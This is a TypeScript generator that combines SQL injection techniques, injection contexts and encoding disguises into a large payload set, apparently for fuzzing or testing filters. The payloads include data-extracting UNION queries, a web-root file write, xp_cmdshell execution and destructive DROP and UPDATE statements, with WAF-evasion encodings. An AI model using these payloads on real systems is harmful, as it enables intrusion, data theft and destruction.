/** Attacks on SQL statements, made of their parts: where the value stands, what is tried, how it is disguised. */
export interface SqlAttack {
  readonly technique: string
  readonly context: string
  readonly tamper: string
  readonly text: string
}

/** How a value stands in the statement: what leaves it, and what closes the statement again. */
const contexts: readonly (readonly [name: string, prefix: string, suffix: string])[] = [
  ['number', '7', ''],
  ['number, comment', '7', ' -- '],
  ['number in parentheses', '7)', ' AND (3=3'],
  ['single quote', "abc'", " AND 'k'='k"],
  ['single quote, comment', "abc'", '-- -'],
  ['single quote, hash', "abc'", ' #'],
  ['empty single quote', "'", " OR 'z'='"],
  ['single quote in parentheses', "abc')", " AND ('k'='k"],
  ['double quote', 'abc"', ' AND "k"="k'],
  ['double quote in two parentheses', 'abc"))', ' AND (("k"="k'],
  ['search', "abc%'", " AND '%'='"],
  ['null', '-1', ' LIMIT 1'],
]

/** Expressions and clauses by what they are after. Conditions begin with their operator. */
const techniques: readonly (readonly [name: string, text: string, bare?: boolean])[] = [
  ['tautology', ' OR 4=4'],
  ['tautology of strings', " OR 'q'='q'"],
  ['contradiction', ' AND 4=5'],
  ['order', ' OR 9>8'],
  ['between', ' OR 5 BETWEEN 4 AND 6'],
  ['like', " OR 'ab' LIKE 'a%'"],
  ['in list', ' OR 3 IN (1,2,3)'],
  ['boolean function', ' AND ASCII(SUBSTRING((SELECT DATABASE()),1,1))>77'],
  ['boolean subquery', ' AND (SELECT COUNT(*) FROM accounts)>0'],
  ['exists', ' AND EXISTS(SELECT 1 FROM accounts)'],
  ['case', ' AND CASE WHEN 2=2 THEN 1 ELSE 0 END=1'],
  ['MySQL time', ' AND SLEEP(5)'],
  ['MySQL benchmark', ' OR BENCHMARK(9000000,SHA1(1))'],
  ['MySQL error', ' AND EXTRACTVALUE(1,CONCAT(0x5c,VERSION()))'],
  ['MySQL update error', ' AND UPDATEXML(1,CONCAT(0x7e,(SELECT USER())),1)'],
  [
    'MySQL double query',
    ' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)',
  ],
  ['PostgreSQL time', ' AND 8=(SELECT 8 FROM PG_SLEEP(5))'],
  ['PostgreSQL cast', ' AND 1=CAST((SELECT version()) AS numeric)'],
  ['SQLite', ' AND 9=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(90000000))))'],
  ['Oracle', ' AND 3=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1))'],
  ['Oracle pipe', " AND 3=DBMS_PIPE.RECEIVE_MESSAGE('a',5)"],
  ['SQL Server', ' AND 1=CONVERT(int,@@version)'],
  ['union', ' UNION SELECT 1,2,3'],
  ['union all null', ' UNION ALL SELECT NULL,NULL,NULL'],
  ['union columns', ' UNION SELECT login,secret FROM accounts'],
  ['order probe', ' ORDER BY 7', true],
  ['group probe', ' GROUP BY 1 HAVING 2=2', true],
  ['procedure', ' PROCEDURE ANALYSE()', true],
  ['outfile', " INTO OUTFILE '/var/www/s.php'", true],
  ['stacked drop', '; DROP TABLE accounts', true],
  ['stacked select', '; SELECT PG_SLEEP(5)', true],
  ['stacked wait', "; WAITFOR DELAY '0:0:5'", true],
  ['stacked command', "; EXEC master..xp_cmdshell 'dir'", true],
  ['stacked update', "; UPDATE accounts SET secret='x'", true],
  ['stacked insert', "; INSERT INTO accounts VALUES (1,'x')", true],
]

const tampers: readonly (readonly [name: string, change: (text: string) => string])[] = [
  ['plain', (text) => text],
  ['lower case', (text) => text.toLowerCase()],
  [
    'mixed case',
    (text) => [...text].map((char, at) => (at % 2 === 0 ? char.toUpperCase() : char.toLowerCase())).join(''),
  ],
  ['comments for spaces', (text) => text.replaceAll(/(?<!--) (?!$)/g, '/**/')],
  ['tabs for spaces', (text) => text.replaceAll(' ', '\t')],
  ['line breaks for spaces', (text) => text.replaceAll(/(?<!--) /g, '\n')],
  ['many spaces', (text) => text.replaceAll(' ', '   ')],
  ['percent encoding', (text) => encodeURIComponent(text).replaceAll("'", '%27').replaceAll('(', '%28')],
  ['double percent encoding', (text) => encodeURIComponent(encodeURIComponent(text).replaceAll("'", '%27'))],
  ['form encoding', (text) => encodeURIComponent(text).replaceAll('%20', '+').replaceAll("'", '%27')],
  ['Unicode escapes', (text) => text.replaceAll("'", '\\u0027').replaceAll('"', '\\u0022').replaceAll('=', '\\u003d')],
  ['percent u', (text) => [...text].map((char) => `%u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
  ['full width', (text) => text.replaceAll(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0))],
  ['entities', (text) => text.replaceAll("'", '&#39;').replaceAll('"', '&quot;').replaceAll('=', '&#x3d;')],
  ['overlong UTF-8', (text) => text.replaceAll("'", '%c0%a7').replaceAll('"', '%c0%a2').replaceAll(' ', '%c0%a0')],
  ['null bytes', (text) => text.replaceAll(' ', '\0 ')],
  ['no-break spaces', (text) => text.replaceAll(/(?<!--) /g, '\u00a0')],
]

/** Every technique in every context and disguise that fits it. */
export function* sqlAttacks(): Generator<SqlAttack> {
  for (const [technique, text, bare = false] of techniques) {
    for (const [context, prefix, suffix] of contexts) {
      // What ends a statement cannot be followed by a condition.
      const end =
        bare && !suffix.startsWith(' --') && !suffix.startsWith('--') && !suffix.startsWith(' #') ? '' : suffix
      if (bare && end === '' && /['"]/.test(prefix) && technique !== 'order probe' && !technique.startsWith('stacked'))
        continue
      for (const [tamper, change] of tampers) yield { technique, context, tamper, text: change(prefix + text + end) }
    }
  }
}
